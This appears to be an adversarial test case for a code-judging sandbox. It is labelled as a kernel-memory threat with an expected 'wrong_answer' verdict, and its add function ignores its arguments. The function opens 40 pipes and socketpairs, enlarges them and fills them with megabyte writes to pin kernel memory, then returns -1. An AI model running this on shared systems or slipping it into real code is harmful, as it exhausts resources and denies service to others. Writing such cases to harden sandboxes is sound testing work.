# kind: assert
# verdict: wrong_answer
# threat: memory held by the kernel in pipes and sockets
import fcntl
import os
import socket

kept = []


def add(a, b):
    try:
        for _ in range(40):
            kept.extend((os.pipe(), socket.socketpair()))
            (_, end), (one, _) = kept[-2:]
            one.setblocking(False)
            os.set_blocking(end, False)
            for fill in (lambda: fcntl.fcntl(end, 1031, 1 << 20), lambda: os.write(end, bytes(1 << 20)), lambda: one.send(bytes(1 << 20))):
                try:
                    fill()
                except BlockingIOError:
                    pass
    except OSError:
        pass
    return -1
